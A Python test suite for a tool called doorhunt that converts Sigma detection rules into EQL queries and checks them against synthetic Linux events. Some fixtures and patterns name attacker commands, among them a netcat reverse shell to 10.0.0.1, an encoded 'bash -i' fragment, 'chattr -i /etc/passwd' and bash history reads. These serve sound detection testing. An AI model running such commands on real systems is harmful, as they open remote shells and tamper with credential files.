"""Sigma → doorhunt EQL: modifier semantics, log sources, failures with reasons, rule files.

Each hand-written Sigma rule is converted, compiled with doorhunt's engine, and run with the
streaming engine over ECS events that Sigma's semantics say must (or must not) match.
"""

from __future__ import annotations

import base64
import textwrap
import tomllib
import uuid
from collections.abc import Mapping
from pathlib import Path

import pytest

pytest.importorskip("sigma", reason="pySigma is the `sigma` extra")

from doorhunt.rules.engine import StreamingEngine, compile_rule
from doorhunt.rules.sigma import (
    ConversionFailure,
    ConvertedRule,
    Converter,
    SigmaUnavailable,
    convert_paths,
    convert_text,
    linux_ecs_pipeline,
    write_rules,
)
from doorhunt.rules.sigma import report as r
from doorhunt.rules.sigma.backend import eql_string
from doorhunt.rules.sigma.convert import MAX_FILE_BYTES, load_documents
from doorhunt.rules.sigma.mapping import LOG_SOURCES, target_fields
from doorhunt.rules.sigma.rulefile import rule_uuid, slug, threats

RULE_ID = "0b3b0b5e-9f7c-4c55-8d2a-6f1b0e6b9a01"


# -- helpers ----------------------------------------------------------------------------------


def sigma(detection: str, *, logsource: str = "category: process_creation", **extra: str) -> str:
    """A Sigma rule with the given detection block (YAML, indented as under `detection:`)."""
    lines = [
        "title: Test rule",
        f"id: {extra.get('id', RULE_ID)}",
        "status: test",
        "description: A rule written for the tests.",
        "author: doorhunt tests",
        "tags:",
        "    - attack.execution",
        "    - attack.t1059.004",
        "logsource:",
        "    product: linux",
        *(f"    {line}" for line in logsource.splitlines()),
        "detection:",
        textwrap.indent(textwrap.dedent(detection).strip("\n"), "    "),
        f"level: {extra.get('level', 'high')}",
    ]
    return "\n".join(lines) + "\n"


def converted(text: str, *, strict: bool = False) -> ConvertedRule:
    outcome = convert_text(text, source="test.yml", strict=strict)
    assert isinstance(outcome, ConvertedRule), outcome
    return outcome


def failed(text: str) -> ConversionFailure:
    outcome = convert_text(text, source="test.yml")
    assert isinstance(outcome, ConversionFailure), outcome
    return outcome


def nested(flat: Mapping[str, object]) -> dict[str, object]:
    document: dict[str, object] = {}
    for name, value in flat.items():
        node = document
        *parents, last = name.split(".")
        for part in parents:
            child = node.setdefault(part, {})
            assert isinstance(child, dict)
            node = child
        node[last] = value
    return document


def exec_event(**fields: object) -> dict[str, object]:
    flat: dict[str, object] = {
        "@timestamp": "2025-05-01T12:00:00.000Z",
        "event.kind": "event",
        "event.category": ["process"],
        "event.type": ["start"],
        "event.action": "exec",
        "event.module": "doorhunt",
    }
    flat.update(fields)
    return nested(flat)


def network_event(**fields: object) -> dict[str, object]:
    flat: dict[str, object] = {
        "@timestamp": "2025-05-01T12:00:00.000Z",
        "event.category": ["network"],
        "event.type": ["start"],
        "event.action": "connection_attempted",
        "network.direction": "egress",
        "process.executable": "/usr/bin/curl",
    }
    flat.update(fields)
    return nested(flat)


def file_event(action: str, event_type: str, **fields: object) -> dict[str, object]:
    flat: dict[str, object] = {
        "@timestamp": "2025-05-01T12:00:00.000Z",
        "event.category": ["file"],
        "event.type": [event_type],
        "event.action": action,
        "process.executable": "/usr/bin/cp",
    }
    flat.update(fields)
    return nested(flat)


def audit_event(**fields: object) -> dict[str, object]:
    flat: dict[str, object] = {
        "@timestamp": "2025-05-01T12:00:00.000Z",
        "event.category": ["process"],
        "event.type": ["start"],
        "event.action": "exec",
        "event.module": "auditd",
        "doorhunt.audit.records": ["CWD", "EXECVE", "PATH", "PROCTITLE", "SYSCALL"],
        "doorhunt.audit.syscall": "execve",
    }
    flat.update(fields)
    return nested(flat)


def matches(rule: ConvertedRule, event: Mapping[str, object]) -> bool:
    engine = StreamingEngine([compile_rule(rule.query, name=rule.title)])
    return bool(engine.process(event))


# -- modifiers -----------------------------------------------------------------------------------

MODIFIER_CASES = [
    # (detection, matching events' fields, non-matching events' fields)
    (
        "sel:\n  Image: '/usr/bin/Curl'\ncondition: sel",
        [{"process.executable": "/usr/bin/curl"}, {"process.executable": "/USR/BIN/CURL"}],
        [{"process.executable": "/usr/bin/curl2"}, {"process.executable": "/x/usr/bin/curl"}],
    ),
    (
        "sel:\n  CommandLine|contains: 'BASE64 -d'\ncondition: sel",
        [{"process.command_line": "echo eA== | base64 -d"}],
        [{"process.command_line": "base64 -e"}, {}],
    ),
    (
        "sel:\n  Image|startswith: '/dev/shm/'\ncondition: sel",
        [{"process.executable": "/dev/shm/kdmtmpflush"}],
        [{"process.executable": "/tmp/dev/shm/x"}],
    ),
    (
        "sel:\n  Image|endswith:\n    - '/nc'\n    - '/ncat'\ncondition: sel",
        [{"process.executable": "/usr/bin/nc"}, {"process.executable": "/bin/NCAT"}],
        [{"process.executable": "/usr/bin/nc.openbsd"}],
    ),
    (
        "sel:\n  CommandLine|contains|all:\n    - 'nc '\n    - ' -e '\ncondition: sel",
        [{"process.command_line": "nc 10.0.0.1 4444 -e /bin/sh"}],
        [{"process.command_line": "nc 10.0.0.1 4444"}],
    ),
    (  # an escaped wildcard is a literal `*`
        "sel:\n  CommandLine|contains: 'a\\*b'\ncondition: sel",
        [{"process.command_line": "x A*B y"}],
        [{"process.command_line": "x a_b y"}, {"process.command_line": "x aZZb y"}],
    ),
    (  # a literal `?` with no wildcard: equality, case-insensitive
        "sel:\n  CommandLine: 'what\\?'\ncondition: sel",
        [{"process.command_line": "WHAT?"}],
        [{"process.command_line": "whatx"}],
    ),
    (  # a literal `*` in the middle of a pattern with wildcards
        "sel:\n  CommandLine: '*a\\*b*c'\ncondition: sel",
        [{"process.command_line": "xxA*Byyc"}],
        [{"process.command_line": "xxaQbyyc"}, {"process.command_line": "xxa*byyd"}],
    ),
    (
        "sel:\n  Image: '/bin/?sh'\ncondition: sel",
        [{"process.executable": "/bin/zsh"}],
        [{"process.executable": "/bin/bash"}],
    ),
    (  # |re is case-sensitive and searches anywhere
        "sel:\n  CommandLine|re: '\\s-[FTd]\\s'\ncondition: sel",
        [{"process.command_line": "curl -F x http://h/"}],
        [{"process.command_line": "curl -f x http://h/"}],
    ),
    (
        "sel:\n  CommandLine|re|i: '\\s-[FTd]\\s'\ncondition: sel",
        [{"process.command_line": "curl -f x"}],
        [{"process.command_line": "curl -x f"}],
    ),
    (
        "sel:\n  CommandLine|re: '(?i)python3\\.[0-9]+ -c'\ncondition: sel",
        [{"process.command_line": "/usr/bin/PYTHON3.11 -c 'x'"}],
        [{"process.command_line": "python3 -c"}],
    ),
    (
        "sel:\n  Image|re: '^/tmp/'\ncondition: sel",
        [{"process.executable": "/tmp/x"}],
        [{"process.executable": "/var/tmp/x"}],
    ),
    (  # `.` does not cross a newline; `$` allows a final newline
        "sel:\n  CommandLine|re: 'a.b$'\ncondition: sel",
        [{"process.command_line": "xaxb"}, {"process.command_line": "xaxb\n"}],
        [{"process.command_line": "xa\nb"}, {"process.command_line": "xaxbc"}],
    ),
    (
        "sel:\n  CommandLine|cased: 'ABC'\ncondition: sel",
        [{"process.command_line": "ABC"}],
        [{"process.command_line": "abc"}],
    ),
    (
        "sel:\n  CommandLine|cased|contains: '-D'\ncondition: sel",
        [{"process.command_line": "ssh -D 1080 h"}],
        [{"process.command_line": "ssh -d 1080 h"}],
    ),
    (
        "sel:\n  CommandLine|base64offset|contains: 'bash -i'\ncondition: sel",
        [
            {"process.command_line": "echo " + base64.b64encode(prefix + b"bash -i >&").decode()}
            for prefix in (b"", b"x", b"xy")
        ],
        [{"process.command_line": "echo " + base64.b64encode(b"sh -c id").decode()}],
    ),
    (
        "sel:\n  CommandLine|windash|contains: ' -s '\ncondition: sel",
        [{"process.command_line": "tool -s x"}, {"process.command_line": "tool /s x"}],
        [{"process.command_line": "tool s x"}],
    ),
    (
        "sel:\n  ParentCommandLine|exists: true\ncondition: sel",
        [{"process.parent.command_line": "bash"}],
        [{}],
    ),
    (
        "sel:\n  CurrentDirectory|exists: false\ncondition: sel",
        [{}],
        [{"process.working_directory": "/root"}],
    ),
    (
        "sel:\n  CurrentDirectory: null\ncondition: sel",
        [{}],
        [{"process.working_directory": "/root"}],
    ),
    (
        "sel:\n  Image|endswith: '/sh'\nfilter:\n  User: root\ncondition: sel and not filter",
        [{"process.executable": "/bin/sh", "process.user.name": "www-data"}],
        [{"process.executable": "/bin/sh", "process.user.name": "ROOT"}],
    ),
]


@pytest.mark.parametrize(("detection", "hits", "misses"), MODIFIER_CASES)
def test_modifier_semantics(
    detection: str, hits: list[dict[str, object]], misses: list[dict[str, object]]
) -> None:
    rule = converted(sigma(detection))
    for fields in hits:
        assert matches(rule, exec_event(**fields)), (rule.query, fields)
    for fields in misses:
        assert not matches(rule, exec_event(**fields)), (rule.query, fields)


NETWORK_CASES = [
    (
        "sel:\n  DestinationIp|cidr:\n    - '10.0.0.0/8'\n    - 'fe80::/10'\ncondition: sel",
        [{"destination.ip": "10.1.2.3"}, {"destination.ip": "fe80::1"}],
        [{"destination.ip": "11.0.0.1"}],
    ),
    (
        "sel:\n  DestinationPort:\n    - 4444\n    - '5555'\ncondition: sel",
        [{"destination.port": 4444}, {"destination.port": 5555}],
        [{"destination.port": 44444}],
    ),
    (
        "sel:\n  DestinationPort|lt: 1024\ncondition: sel",
        [{"destination.port": 22}],
        [{"destination.port": 8080}],
    ),
    (
        "sel:\n  Initiated: 'true'\n  DestinationIp: '203.0.113.5'\ncondition: sel",
        [{"destination.ip": "203.0.113.5"}],
        [
            {"destination.ip": "203.0.113.5", "network.direction": "ingress"},
            {"destination.ip": "203.0.113.50"},
        ],
    ),
    (
        "sel:\n  DestinationIp: '10.1.*'\ncondition: sel",
        [{"destination.ip": "10.1.9.9"}],
        [{"destination.ip": "10.10.9.9"}],
    ),
]


@pytest.mark.parametrize(("detection", "hits", "misses"), NETWORK_CASES)
def test_network_values(
    detection: str, hits: list[dict[str, object]], misses: list[dict[str, object]]
) -> None:
    rule = converted(sigma(detection, logsource="category: network_connection"))
    for fields in hits:
        assert matches(rule, network_event(**fields)), (rule.query, fields)
    for fields in misses:
        assert not matches(rule, network_event(**fields)), (rule.query, fields)


def test_numbers_on_numeric_fields_are_numbers_not_patterns() -> None:
    rule = converted(
        sigma(
            "sel:\n  DestinationPort: 4444\ncondition: sel",
            logsource="category: network_connection",
        )
    )
    assert "destination.port == 4444" in rule.query
    failure = failed(
        sigma(
            "sel:\n  DestinationPort|startswith: '44'\ncondition: sel",
            logsource="category: network_connection",
        )
    )
    assert failure.kind == r.KIND_VALUE
    assert "destination.port is numeric" in failure.reason


@pytest.mark.parametrize(
    ("detection", "kind", "words"),
    [
        ("sel:\n  Image|fieldref: ParentImage\ncondition: sel", r.KIND_VALUE, "compare one field"),
        ("sel:\n  - 'whoami'\ncondition: sel", r.KIND_KEYWORDS, "raw log message"),
        ("sel:\n  OriginalFileName: 'x.exe'\ncondition: sel", r.KIND_FIELD, "OriginalFileName"),
        ("sel:\n  LogonId: 0\ncondition: sel", r.KIND_FIELD, "LogonId"),
        ("sel:\n  SomethingElse: 1\ncondition: sel", r.KIND_FIELD, "SomethingElse"),
        ("sel:\n  CommandLine|re: 'a\\bb'\ncondition: sel", r.KIND_REGEX, "word boundaries"),
        ("sel:\n  CommandLine|re: 'a\\Bb'\ncondition: sel", r.KIND_REGEX, "non-word boundaries"),
        # pySigma itself checks regular expressions with RE2, which has no lookaround.
        ("sel:\n  CommandLine|re: '(?<=x)y'\ncondition: sel", r.KIND_INVALID, "(?<="),
        ("sel:\n  Image|expand: '%Dir%\\x'\ncondition: sel", r.KIND_VALUE, "placeholder"),
    ],
)
def test_not_convertible_with_reason(detection: str, kind: str, words: str) -> None:
    failure = failed(sigma(detection))
    assert failure.kind == kind
    assert words in failure.reason
    assert "\n" not in failure.reason


# -- log sources ------------------------------------------------------------------------------


def test_process_creation_matches_exec_not_fork() -> None:
    rule = converted(sigma("sel:\n  Image|endswith: '/bash'\ncondition: sel"))
    assert rule.query.startswith('process where event.type == "start" and event.action == "exec"')
    assert matches(rule, exec_event(**{"process.executable": "/bin/bash"}))
    fork = exec_event(**{"process.executable": "/bin/bash", "event.action": "fork"})
    assert not matches(rule, fork)


def test_process_creation_fields() -> None:
    rule = converted(
        sigma(
            """
            sel:
              ParentImage|endswith: '/java'
              ParentCommandLine|contains: 'tomcat'
              CurrentDirectory: '/opt'
              ProcessId: 42
              ParentProcessId: 1
            condition: sel
            """
        )
    )
    event = exec_event(
        **{
            "process.parent.executable": "/usr/bin/java",
            "process.parent.command_line": "java -jar tomcat.jar",
            "process.working_directory": "/opt",
            "process.pid": 42,
            "process.parent.pid": 1,
        }
    )
    assert matches(rule, event)
    assert any("Elastic Defend" in w for w in rule.warnings)


@pytest.mark.parametrize(
    ("category", "hit", "miss"),
    [
        ("file_event", ("creation", "creation"), ("deletion", "deletion")),
        ("file_event", ("rename", "change"), ("timestomp", "change")),
        ("file_delete", ("deletion", "deletion"), ("creation", "creation")),
        ("file_rename", ("rename", "change"), ("creation", "creation")),
        ("file_change", ("timestomp", "change"), ("modification", "change")),
    ],
)
def test_file_categories(category: str, hit: tuple[str, str], miss: tuple[str, str]) -> None:
    rule = converted(
        sigma(
            "sel:\n  TargetFilename|startswith: '/etc/cron.d/'\ncondition: sel",
            logsource=f"category: {category}",
        )
    )
    assert rule.query.startswith("file where ")
    assert matches(rule, file_event(*hit, **{"file.path": "/etc/cron.d/job"}))
    assert not matches(rule, file_event(*miss, **{"file.path": "/etc/cron.d/job"}))
    assert not matches(rule, file_event(*hit, **{"file.path": "/etc/cron.daily/job"}))


def test_network_connection_direction_and_unmapped_hostname() -> None:
    rule = converted(
        sigma(
            "sel:\n  Initiated: 'false'\n  DestinationPort: 22\ncondition: sel",
            logsource="category: network_connection",
        )
    )
    accepted = network_event(
        **{
            "event.action": "connection_accepted",
            "network.direction": "ingress",
            "destination.port": 22,
        }
    )
    assert matches(rule, accepted)
    assert not matches(rule, network_event(**{"destination.port": 22}))
    failure = failed(
        sigma(
            "sel:\n  DestinationHostname|endswith: '.ngrok.io'\ncondition: sel",
            logsource="category: network_connection",
        )
    )
    assert failure.kind == r.KIND_FIELD
    assert "DestinationHostname" in failure.reason and "host names" in failure.reason


AUDITD = "service: auditd"


def test_auditd_execve_arguments_are_process_args() -> None:
    rule = converted(
        sigma(
            "sel:\n  type: EXECVE\n  a0: chattr\n  a1|contains: '-i'\ncondition: sel",
            logsource=AUDITD,
        )
    )
    assert rule.query.startswith('any where event.module == "auditd"')
    assert any("process.args" in w for w in rule.warnings)
    assert matches(rule, audit_event(**{"process.args": ["chattr", "-i", "/etc/passwd"]}))
    assert not matches(rule, audit_event(**{"process.args": ["chattr", "+a", "/etc/passwd"]}))
    # Not from auditd: the log source does not match.
    assert not matches(rule, exec_event(**{"process.args": ["chattr", "-i", "/x"]}))


def test_auditd_strict_refuses_approximations() -> None:
    text = sigma("sel:\n  type: EXECVE\n  a0: chattr\ncondition: sel", logsource=AUDITD)
    outcome = convert_text(text, strict=True)
    assert isinstance(outcome, ConversionFailure)
    assert outcome.kind == r.KIND_STRICT


def test_auditd_path_syscall_key_and_exe() -> None:
    path_rule = converted(
        sigma("sel:\n  type: PATH\n  name: '/etc/ld.so.preload'\ncondition: sel", logsource=AUDITD)
    )
    created = audit_event(
        **{
            "event.category": ["file"],
            "event.type": ["creation"],
            "event.action": "creation",
            "doorhunt.audit.syscall": "openat",
            "file.path": "/etc/ld.so.preload",
        }
    )
    assert matches(path_rule, created)
    syscall_rule = converted(
        sigma(
            "sel:\n  type: SYSCALL\n  SYSCALL: memfd_create\n  exe|endswith: '/python3'\n"
            "condition: sel",
            logsource=AUDITD,
        )
    )
    memfd = audit_event(
        **{
            "event.type": ["change"],
            "event.action": "memfd_create",
            "doorhunt.audit.syscall": "memfd_create",
            "process.executable": "/usr/bin/python3",
        }
    )
    assert matches(syscall_rule, memfd)
    key_rule = converted(sigma("sel:\n  key: susp_activity\ncondition: sel", logsource=AUDITD))
    assert matches(key_rule, audit_event(**{"doorhunt.audit.key": ["x", "susp_activity"]}))
    assert not matches(key_rule, audit_event())


def test_auditd_nametype_and_keywords() -> None:
    rule = converted(
        sigma(
            "sel:\n  type: PATH\n  nametype: CREATE\n  name|startswith: '/etc/systemd/'\n"
            "condition: sel",
            logsource=AUDITD,
        )
    )
    base = {"event.category": ["file"], "event.action": "creation", "file.path": "/etc/systemd/x"}
    assert matches(rule, audit_event(**base, **{"event.type": ["creation"]}))
    assert not matches(rule, audit_event(**base, **{"event.type": ["deletion"]}))
    keywords = converted(
        sigma(
            "sel:\n  type: EXECVE\nkw:\n  - '.bash_history'\ncondition: sel and kw",
            logsource=AUDITD,
        )
    )
    history = audit_event(**{"process.command_line": "cat /root/.bash_history"})
    assert matches(keywords, history)
    assert any("process.command_line" in w for w in keywords.warnings)


@pytest.mark.parametrize(
    ("detection", "words"),
    [
        ("sel:\n  type: SERVICE_STOP\n  unit: ufw\ncondition: sel", "SERVICE_STOP"),
        ("sel:\n  type: SYSCALL\n  comm: insmod\ncondition: sel", "comm"),
        ("sel:\n  type: SYSCALL\n  SYSCALL: socket\n  a0: '26'\ncondition: sel", "raw syscall"),
        ("sel:\n  type: SYSCALL\n  syscall: 59\ncondition: sel", "differs between arch"),
        ("sel:\n  type: SYSCALL\n  SYSCALL: sysinfo\ncondition: sel", "not mapped"),
        ("sel:\n  type: SYSCALL\n  nametype: PARENT\ncondition: sel", "nametype"),
    ],
)
def test_auditd_not_convertible(detection: str, words: str) -> None:
    failure = failed(sigma(detection, logsource=AUDITD))
    assert words in failure.reason, failure


@pytest.mark.parametrize(
    ("logsource", "words"),
    [
        ("service: sshd", "raw log lines"),
        ("category: dns_query", "no DNS queries"),
        ("service: syslog", "raw log lines"),
    ],
)
def test_unsupported_log_sources(logsource: str, words: str) -> None:
    failure = failed(sigma("sel:\n  - 'error'\ncondition: sel", logsource=logsource))
    assert failure.kind == r.KIND_LOG_SOURCE
    assert words in failure.reason


def test_windows_rule_is_not_converted() -> None:
    text = sigma("sel:\n  Image: 'x'\ncondition: sel").replace("product: linux", "product: windows")
    failure = failed(text)
    assert failure.kind == r.KIND_LOG_SOURCE
    assert "not Linux" in failure.reason


def test_mapping_targets_exist_in_ecs() -> None:
    from doorhunt.ecs import load_schema

    schema = load_schema()
    missing = sorted(t for t in target_fields() if t not in schema)
    assert missing == [], missing
    assert {source.key for source in LOG_SOURCES} >= {"process_creation", "auditd"}


def test_pipeline_is_a_pysigma_pipeline() -> None:
    from sigma.processing.pipeline import ProcessingPipeline

    pipeline = linux_ecs_pipeline()
    assert isinstance(pipeline, ProcessingPipeline)
    assert pipeline.name == "doorhunt Linux to ECS"


def test_eql_strings_escape_controls() -> None:
    assert eql_string('a"b\\c\n\x1b\u202e') == '"a\\"b\\\\c\\n\\u{1b}\\u{202e}"'
    rule = converted(sigma('sel:\n  CommandLine|contains: "a\\u202eb\\x1b"\ncondition: sel'))
    compile_rule(rule.query)


# -- the rule file ---------------------------------------------------------------------------


def test_rule_file_shape() -> None:
    rule = converted(sigma("sel:\n  Image|endswith: '/bash'\ncondition: sel", level="critical"))
    data = tomllib.loads(rule.toml)
    body = data["rule"]
    assert body["id"] == RULE_ID == rule.rule_id
    assert body["name"] == "Test rule"
    assert (body["severity"], body["risk_score"]) == ("critical", 99)
    assert body["language"] == "eql" and body["version"] == 1
    assert body["query"].strip() == rule.query
    assert {"sigma", "sigma-converted", f"sigma-id:{RULE_ID}", "sigma-license:DRL-1.1"} <= set(
        body["tags"]
    )
    assert "sigma-author:doorhunt tests" in body["tags"]
    assert (
        "doorhunt tests" in body["description"] and "Detection-Rule-License" in body["description"]
    )
    assert body["triage"]["en"] and body["triage"]["ko"]
    threat = body["threat"][0]
    assert threat["tactic"] == {
        "id": "TA0002",
        "name": "Execution",
        "reference": "https://attack.mitre.org/tactics/TA0002/",
    }
    technique = threat["technique"][0]
    assert (technique["id"], technique["name"]) == ("T1059", "Command and Scripting Interpreter")
    assert technique["subtechnique"][0]["id"] == "T1059.004"
    assert "example" not in data
    assert rule.file_name == "execution_test_rule.toml"


@pytest.mark.parametrize(
    ("level", "expected"),
    [
        ("informational", ("low", 21)),
        ("low", ("low", 21)),
        ("medium", ("medium", 47)),
        ("high", ("high", 73)),
    ],
)
def test_severity(level: str, expected: tuple[str, int]) -> None:
    body = tomllib.loads(converted(sigma("s:\n  Image: x\ncondition: s", level=level)).toml)
    assert (body["rule"]["severity"], body["rule"]["risk_score"]) == expected


def test_ids_and_names() -> None:
    assert rule_uuid(RULE_ID.upper(), "t") == RULE_ID
    made = rule_uuid("not-a-uuid", "t")
    assert made == rule_uuid("not-a-uuid", "other") and uuid.UUID(made).version == 5
    assert slug("Linux: Suspicious `curl` Usage (T1105)!") == "linux_suspicious_curl_usage_t1105"
    assert slug("日本") == "rule"
    mapped = threats(["attack.stealth", "attack.t1070.006", "attack.persistence"])
    assert [t.tactic.id for t in mapped] == ["TA0005", "TA0003"]
    assert mapped[0].techniques == ("T1070.006",)
    assert threats(["attack.t1059"]) == []


def test_rule_without_tactic_is_named_unknown() -> None:
    text = sigma("s:\n  Image: x\ncondition: s").replace("    - attack.execution\n", "")
    assert converted(text).file_name.startswith("unknown_")


def test_hostile_title_and_description_stay_valid_toml() -> None:
    text = sigma("s:\n  Image: x\ncondition: s").replace(
        "title: Test rule", 'title: "a \\"\\"\\" b \\u0007 \'\'\' c"'
    )
    body = tomllib.loads(converted(text).toml)["rule"]
    assert body["name"] == "a \"\"\" b \x07 ''' c"


def test_write_rules_keeps_names_and_avoids_clobbering(tmp_path: Path) -> None:
    first = converted(sigma("s:\n  Image: x\ncondition: s"))
    other = converted(
        sigma("s:\n  Image: y\ncondition: s", id="1b3b0b5e-9f7c-4c55-8d2a-6f1b0e6b9a01")
    )
    written = write_rules([first, other], tmp_path)
    assert [Path(p).name for p in written] == [
        "execution_test_rule.toml",
        "execution_test_rule_1b3b0b5e.toml",
    ]
    again = write_rules([first], tmp_path)  # the same rule again replaces its own file
    assert [Path(p).name for p in again] == ["execution_test_rule.toml"]


# -- bad input ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\xff\xfe\x00bad", r.KIND_ENCODING),
        (b"title: [unclosed\n", r.KIND_YAML),
        (b"- just\n- a list\n", r.KIND_NOT_SIGMA),
        (b"title: no detection\nlogsource: {product: linux}\n", r.KIND_NOT_SIGMA),
        (b"title: x\ndetection: {}\nlogsource: {}\n", r.KIND_INVALID),
        (b"a: &a [x, x]\nb: [" + b", ".join([b"*a"] * 100) + b"]\n", r.KIND_YAML),
        (b"[" * 5000 + b"]" * 5000, r.KIND_YAML),
        (b"date: 2020-13-45\n", r.KIND_YAML),
        (b"x" * (MAX_FILE_BYTES + 1), r.KIND_SIZE),
    ],
)
def test_bad_files_give_one_failure(data: bytes, kind: str) -> None:
    outcomes = Converter().convert_bytes(data, "bad.yml")
    assert len(outcomes) == 1
    outcome = outcomes[0]
    assert isinstance(outcome, ConversionFailure), outcome
    assert outcome.kind == kind, outcome
    assert "\n" not in outcome.reason


def test_load_documents_reads_several() -> None:
    assert load_documents(b"a: 1\n---\nb: 2\n", "x") == [{"a": 1}, {"b": 2}]


def test_directories_are_searched(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "one.yml").write_text(sigma("s:\n  Image: x\ncondition: s"))
    (tmp_path / "two.yaml").write_text("not: sigma\n")
    (tmp_path / "notes.txt").write_text("ignored")
    report = convert_paths([tmp_path])
    assert (report.files, len(report.converted), len(report.failures)) == (2, 1, 1)
    assert report.failures[0].kind == r.KIND_NOT_SIGMA


def test_without_pysigma_the_error_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "sigma.conversion.base", None)
    with pytest.raises(SigmaUnavailable, match=r"pip install 'doorhunt\[sigma\]'"):
        Converter()
